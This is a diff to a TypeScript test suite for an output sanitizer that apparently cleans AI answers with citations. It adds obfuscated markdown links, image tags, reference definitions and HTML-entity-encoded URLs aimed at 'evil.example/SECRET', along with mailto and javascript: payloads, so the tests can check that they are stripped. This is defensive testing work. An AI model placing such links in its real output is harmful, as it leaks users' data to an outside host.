@@ -106,6 +106,9 @@ const SAID = fc.array(
     "ample/) ",
     "[7] ",
     "Both say so [2, 1]. ",
+    "Teresa Almeida leads the network team [1]。",
+    "」The backup of Lisbon runs at night！[2] ",
+    "网络团队？",
     "Look at https://wiki.example/backup. ",
     "Nobody says so [8,9]. ",
     "Many say so [1-7]. ",
@@ -125,6 +128,9 @@ const SAID = fc.array(
     "!<b>[x](//x.example) ",
     "!![x](y)[x](//x.example) ",
     "![99][x](//x.example) ",
+    "[x]: data:text/html,x ",
+    "&#60;img src=//x.example&#62; &excl;[x](//x.example) ",
+    "[x](&#47;/x.example) https&colon;//evil.example/x ",
     "![x][r] ",
     "Well![1] ",
     "Dr. Almeida leads it [1]. ",
@@ -158,7 +164,7 @@ describe("cleanOutput", () => {
       "See [the page](https://wiki.example/backup).",
     ],
     ["Go http[9]s://evil.example/x or http(https://evil.example)s://evil.example now", "Go or now"],
-    ["Go ht[tp](https://evil.example)://evil.example/x now", "Go ht[tp]://evil.example/x now"],
+    ["Go ht[tp](https://evil.example)://evil.example/x now", "Go ht[tp] ://evil.example/x now"],
   ])("leaves an address of a document whole: %s", (said, shown) => {
     expect(cleanOutput(said, DOCUMENTS).answer).toBe(shown);
   });
@@ -170,11 +176,21 @@ describe("cleanOutput", () => {
     [String.raw`[x](https:\\evil.example/SECRET) and go`, "x and go"],
     ["[x](ftp://evil.example/SECRET) and go", "x and go"],
     ["[x](javascript:alert(1)) and go", "[x] (javascript:alert(1)) and go"],
+    ["[x](https&#58;&#47;&#47;evil.example) and go", "x and go"],
+    ["[x](https&colon;&sol;&sol;evil.example) and go", "x and go"],
+    ["Or &#104;ttps&#x3A;//evil.example/SECRET and go", "Or and go"],
+    ["Or https&#38;#58;//evil.example and go", "Or https& #58; and go"],
+    ["&#33;[x](//evil.example/SECRET) and &#60;img src=//evil.example&#62; go", "and  go"],
+    ["AT&amp;T &lt;b&gt; a&b &Ntilde; &nothing; go", "AT&amp;T &lt;b&gt; a&b Ñ &nothing; go"],
+    ["[x][r] and go\n\n[r]: //evil.example/SECRET", "[x][r] and go\n\n[r] :"],
+    ["[r] and go\n\n[r]: evil.example/SECRET", "[r] and go\n\n[r] : evil.example/SECRET"],
+    ["[r] and go\n> [r]: mailto:a@evil.example?body=SECRET", "[r] and go\n> [r] :"],
     [
-      "[x](https&#58;&#47;&#47;evil.example) and go",
-      "[x] (https&#58;&#47;&#47;evil.example) and go",
+      "[r] and go\n- [r]:\n  &#106;avascript:alert(1)",
+      "[r] and go\n- [r] :\n  javascript:alert(1)",
     ],
-    ["[x][r] and go\n\n[r]: //evil.example/SECRET", "[x][r] and go\n\n[r]:"],
+    ["[1] and go\n\n[1]: <tel:123>", "[1] and go\n\n[1] :"],
+    ["[x](mailto:a@evil.example) or mailto:a@evil.example, go", "x or, go"],
     ["Or www.evil.example/SECRET and go", "Or and go"],
     ["[x](https://wiki.example/backup) and go", "[x](https://wiki.example/backup) and go"],
     ["Paths a//b, C://d and // notes.", "Paths a//b, C://d and // notes."],
@@ -249,7 +265,9 @@ describe("SentenceGate", () => {
           cited.push(...citations);
           if (out === "") return;
           expect(isGrounded({ answer: out, citations: gate.passed.citations }, "en")).toBe(true);
-          expect(out).not.toMatch(/evil|<[a-z/!]|!\[|\[[3-9]\]|\[ ?\d+(?!\])|backup"|\]\(data/i);
+          expect(out).not.toMatch(
+            /evil|<[a-z/!]|!\[|\[[3-9]\]|\[ ?\d+(?!\])|backup"|\]\(data|\]:/i,
+          );
           expect(out).not.toMatch(/[\u202e\u2066\u{e0000}-\u{e007f}]/u);
         };
         for (let at = 0; at < said.length; at += step) take(gate.push(said.slice(at, at + step)));
